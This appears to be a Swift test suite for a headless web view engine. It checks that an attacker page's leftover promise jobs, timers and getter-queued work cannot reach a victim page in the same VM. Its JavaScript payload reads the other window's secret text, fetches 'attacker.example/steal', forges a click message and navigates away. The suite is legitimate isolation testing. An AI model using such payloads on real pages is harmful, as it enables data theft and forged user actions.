import Foundation
import HeadlessWebView
import ScriptEngine
import Testing

/// Pairs of an attacker page and a victim page in one VM (the main actor's web views share it): the
/// attacker leaves work behind every way the host lets it — jobs left by a script stopped at the time
/// limit, jobs queued by getters, `then` and error fields the host reads, looping jobs, a closed page —
/// and the victim must see none of it. A leak is any of: the attacker reaching the victim's window or
/// text, the victim's host receiving the attacker's alert, navigation, request or message, the
/// victim's own script failing, or the next page of the VM failing to load.
@MainActor
struct CrossPageIsolationTests {
    /// What the attacker's job does once it runs: from whatever window the DOM takes as current, it
    /// reads the text, raises an alert, fetches, navigates and posts a click message.
    nonisolated static let payload = """
        function attack() {
            const reached = new Image().ownerDocument.defaultView;
            window.reached = reached === window ? 'own window' : 'another window';
            const secret = reached.document && reached.document.getElementById('secret');
            if (secret) window.stolen = secret.textContent;
            const option = new Option('x');
            if (option.ownerDocument !== document) window.stolen = 'an Option of another document';
            try { alert('ATTACKER alert'); } catch (e) {}
            try { fetch('https://attacker.example/steal'); } catch (e) {}
            try { reached.webkit.messageHandlers.clicks.postMessage('product ATTACKER-SKU'); } catch (e) {}
            try { location.href = 'https://attacker.example/'; } catch (e) {}
        }
        """

    /// How the attacker leaves its work behind.
    struct Attack: CustomStringConvertible, Sendable {
        let description: String
        /// The attacker page's script (after ``payload``).
        let script: String
        /// What the host then does with the attacker (evaluate, call), if anything.
        let hostAction: String?
        /// Whether the attacker's view is released before the victim runs.
        var closesAttacker = false
    }

    nonisolated static let attacks: [Attack] = [
        Attack(
            description: "a job left by a script stopped at the limit",
            script: "Promise.resolve().then(attack); for (;;) {}", hostAction: nil),
        Attack(
            description: "queueMicrotask left by a stopped script",
            script: "queueMicrotask(attack); for (;;) {}", hostAction: nil),
        Attack(
            description: "an await left by a stopped script",
            script: "(async () => { await null; attack(); })(); for (;;) {}", hostAction: nil),
        Attack(
            description: "a looping job left by a stopped script",
            script: "Promise.resolve().then(() => { for (;;) {} }); for (;;) {}", hostAction: nil),
        Attack(
            description: "an await loop left by a stopped script",
            script: "(async () => { for (;;) await null; })(); for (;;) {}", hostAction: nil),
        Attack(
            description: "a job a getter queued as the host converted the result",
            script: "", hostAction: "({ get x() { Promise.resolve().then(attack); return 1 } })"),
        Attack(
            description: "a looping job a getter queued as the host converted the result",
            script: "", hostAction: "({ get x() { Promise.resolve().then(() => { for (;;) {} }); return 1 } })"),
        Attack(
            description: "a job a thrown value's getter queued as the host read the error",
            script: "", hostAction: "throw { get message() { Promise.resolve().then(attack); return 'm' } }"),
        Attack(
            description: "a job a rejection's getter queued as it was reported",
            script: "Promise.reject({ get message() { Promise.resolve().then(attack); return 'm' } });",
            hostAction: nil),
        Attack(
            description: "a job a getter queued, then the attacker closed",
            script: "", hostAction: "({ get x() { Promise.resolve().then(attack); return 1 } })",
            closesAttacker: true),
        Attack(
            description: "a timer left by a stopped script",
            script: "setTimeout(attack, 0); for (;;) {}", hostAction: nil),
    ]

    final class MessageLog: WKScriptMessageHandler {
        var bodies: [String] = []
        func userContentController(
            _ userContentController: WKUserContentController, didReceive message: WKScriptMessage
        ) {
            bodies.append("\(message.body)")
        }
    }

    static func victim(log: MessageLog) -> WKWebView {
        let configuration = WKWebViewConfiguration()
        configuration.userContentController.add(log, name: "clicks")
        let view = WKWebView(frame: .zero, configuration: configuration)
        view.scriptTimeLimit = .milliseconds(300)
        view.loadHTMLString(
            """
            <p id="secret">VICTIM-SECRET</p><button id="buy">Buy</button>
            <script>
            document.getElementById('buy').addEventListener('click', () =>
                webkit.messageHandlers.clicks.postMessage('product VICTIM-SKU'));
            </script>
            """, baseURL: URL(string: "https://victim.example/"))
        return view
    }

    @Test(arguments: attacks)
    func theVictimSeesNothingOfTheAttacker(_ attack: Attack) async throws {
        let log = MessageLog()
        let victim = Self.victim(log: log)
        let navigationsBefore = victim.navigations.count
        let resourcesBefore = victim.blockedResources.count
        var attacker: WKWebView? = WKWebView(frame: .zero, configuration: WKWebViewConfiguration())
        attacker?.scriptTimeLimit = .milliseconds(150)
        attacker?.loadHTMLString(
            "<p>attacker</p><script>\(Self.payload)\n\(attack.script)</script>",
            baseURL: URL(string: "https://attacker.example/"))
        if let action = attack.hostAction {
            _ = try? await attacker?.evaluateJavaScript(action)
        }
        if attack.closesAttacker { attacker = nil }

        // The victim's own work runs as before, its jobs and timers included.
        let text = try await victim.evaluateJavaScript(
            "Promise.resolve().then(() => { window.ownJob = true }); document.getElementById('secret').textContent")
        #expect(text as? String == "VICTIM-SECRET")
        #expect(try await victim.evaluateJavaScript("window.ownJob") as? Bool == true)
        try victim.advance(by: .seconds(1))
        try victim.click(selector: "#buy")

        #expect(log.bodies == ["product VICTIM-SKU"], "\(attack)")
        #expect(victim.dialogs.isEmpty, "\(attack): \(victim.dialogs)")
        #expect(victim.navigations.count == navigationsBefore, "\(attack): \(victim.navigations)")
        #expect(victim.blockedResources.count == resourcesBefore, "\(attack): \(victim.blockedResources)")
        #expect(victim.scriptErrors.isEmpty, "\(attack): \(victim.scriptErrors)")
        if let attacker {
            try attacker.advance(by: .seconds(1))
            let reached = try await attacker.evaluateJavaScript("String(window.reached) + ' ' + String(window.stolen)")
            #expect(reached as? String != nil)
            #expect((reached as? String)?.contains("another window") == false, "\(attack): \(reached ?? "")")
            #expect((reached as? String)?.contains("VICTIM") == false, "\(attack): \(reached ?? "")")
        }

        // The next page of the VM loads and runs.
        let next = WKWebView(frame: .zero, configuration: WKWebViewConfiguration())
        next.loadHTMLString("<p id=n>next</p><script>document.title = 'ready'</script>", baseURL: nil)
        #expect(next.title == "ready", "\(attack)")
        #expect(next.scriptErrors.isEmpty, "\(attack): \(next.scriptErrors)")
    }

    /// A job of the attacker that runs in its own entry acts on its own window: its alert is its own.
    @Test func anAttackersJobThatRunsActsOnItsOwnWindow() async throws {
        let log = MessageLog()
        let victim = Self.victim(log: log)
        let attacker = WKWebView(frame: .zero, configuration: WKWebViewConfiguration())
        attacker.loadHTMLString("<p>attacker</p><script>\(Self.payload)</script>", baseURL: nil)
        _ = try await attacker.evaluateJavaScript("({ get x() { Promise.resolve().then(attack); return 1 } })")
        _ = try await victim.evaluateJavaScript("1")
        #expect(try await attacker.evaluateJavaScript("window.reached") as? String == "own window")
        #expect(attacker.dialogs.map(\.message) == ["ATTACKER alert"])
        #expect(victim.dialogs.isEmpty)
        #expect(log.bodies.isEmpty)
    }
}
